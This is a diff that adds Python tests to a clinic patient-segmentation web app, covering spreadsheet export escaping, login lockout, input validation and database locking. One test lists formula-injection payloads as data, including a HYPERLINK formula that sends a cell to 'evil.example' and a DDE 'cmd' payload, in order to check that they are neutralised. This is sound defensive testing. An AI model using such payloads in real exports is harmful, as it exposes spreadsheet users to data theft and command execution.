@@ -174,3 +174,110 @@ def test_explaining_a_member_and_a_non_member(client_of, settings):
     assert "not in the segment" in outside and "✗" in outside
     # Someone else's private segment cannot be explained either.
     assert client.get("/segments/priyas-follow-ups/explain?patient=1").status_code == 404
+
+
+def test_an_export_never_hands_a_spreadsheet_a_formula():
+    from webapp.app import spreadsheet_safe
+
+    # What a patient's name may say in the extract, and what the cell becomes.
+    assert spreadsheet_safe('=HYPERLINK("http://evil.example/?"&A1,"x")') == (
+        '\'=HYPERLINK("http://evil.example/?"&A1,"x")')
+    for cell in ("+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "\rx"):
+        assert spreadsheet_safe(cell) == "'" + cell
+    assert spreadsheet_safe("Mia Chen") == "Mia Chen" and spreadsheet_safe(42) == 42
+
+
+def test_someone_guessing_from_elsewhere_cannot_lock_the_owner_out(settings):
+    from webapp import accounts
+
+    engine = accounts.open_accounts(settings.state_db_url)
+    accounts.add_user(engine, "target@clinic.example", "T", "staff", PASSWORD)
+    for _ in range(6):
+        with pytest.raises(accounts.SignInRefused):
+            accounts.sign_in(engine, "target@clinic.example", "guess guess guess",
+                             client="203.0.113.9")  # fmt: skip
+    with pytest.raises(accounts.SignInRefused, match="too many"):
+        accounts.sign_in(engine, "target@clinic.example", PASSWORD, client="203.0.113.9")
+    # The owner, at their own desk, still gets in.
+    assert accounts.sign_in(engine, "target@clinic.example", PASSWORD, client="10.0.0.5").user
+
+
+def test_pages_out_of_range_wildcards_and_unknown_pages_are_plain_answers(client_of):
+    client = client_of(DESK)
+    huge = client.get("/segments/dormant-24mo?page_no=999999999999999999999")
+    assert huge.status_code == 200 and "Page " in huge.text
+    assert "Content-Security-Policy" in huge.headers
+    bad = client.get("/segments/dormant-24mo?page_no=x")
+    assert bad.status_code == 400 and "detail" not in bad.text
+    missing = client.get("/no/such/page")
+    assert missing.status_code == 404 and "no such page" in missing.text
+    # % and _ are letters in a search, not "everyone".
+    for q in ("%", "_"):
+        page = client.get(f"/segments/dormant-24mo/explain?q={q}")
+        assert "No patient matches." in page.text
+
+
+def test_a_pause_says_which_or_is_refused(client_of):
+    client = client_of(DESK)
+    page = client.get("/campaigns").text
+    slug = page.split('data-campaign="')[1].split('"')[0]
+    token = csrf_of(page)
+    assert client.post(f"/campaigns/{slug}/pause", data={"csrf": token}).status_code == 400
+    assert client.post(f"/campaigns/{slug}/pause",
+                       data={"csrf": token, "paused": "maybe"}).status_code == 400  # fmt: skip
+
+
+def test_while_a_run_holds_the_warehouse_the_app_stays_out_of_its_way(client_of, settings):
+    from core.run_lock import hold_warehouse
+
+    client = client_of(DESK)
+    with hold_warehouse(settings.duckdb_path, "a test run"):
+        busy = client.get("/segments/dormant-24mo")
+        assert busy.status_code == 503 and "try again in a minute" in busy.text
+    assert client.get("/segments/dormant-24mo").status_code == 200
+
+
+def test_a_writer_waits_for_a_short_reader_instead_of_failing(tmp_path):
+    import time
+
+    from core.warehouse import connect
+
+    db = tmp_path / "w.duckdb"
+    with connect(db) as con:
+        con.execute("create table t as select 1 as x")
+    import subprocess
+    import sys
+
+    # A reader in another process (as the web app is), holding the file for half a second.
+    probe = subprocess.Popen([sys.executable, "-c", (
+        "import duckdb, sys, time; c = duckdb.connect(sys.argv[1], read_only=True); "
+        "print('open', flush=True); time.sleep(0.8); c.close()"), str(db)],
+        stdout=subprocess.PIPE, text=True)  # fmt: skip
+    assert probe.stdout.readline().strip() == "open"
+    started = time.monotonic()
+    with connect(db) as con:  # waits, then writes
+        con.execute("insert into t values (2)")
+    assert time.monotonic() - started > 0.3
+    probe.wait(timeout=10)
+
+
+def test_staff_browsing_during_a_pipeline_run_does_not_break_it(client_of, clinic, settings):
+    import subprocess
+    import sys
+
+    from tests.webapp.conftest import DAY
+
+    client = client_of(DESK)
+    extract = str(settings.duckdb_path.parent / "extract")
+    run = subprocess.Popen(
+        [sys.executable, "-m", "clinic_audiences.cli", "run", "--extracts", extract,
+         "--as-of", DAY.isoformat(), "--select", "segments,worklists"],
+        env={**__import__("os").environ, **clinic}, stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT, text=True,
+    )  # fmt: skip
+    answers = set()
+    while run.poll() is None:
+        answers.add(client.get("/segments/dormant-24mo").status_code)
+    output = run.stdout.read()
+    assert run.returncode == 0, output[-3000:]
+    assert answers <= {200, 503}
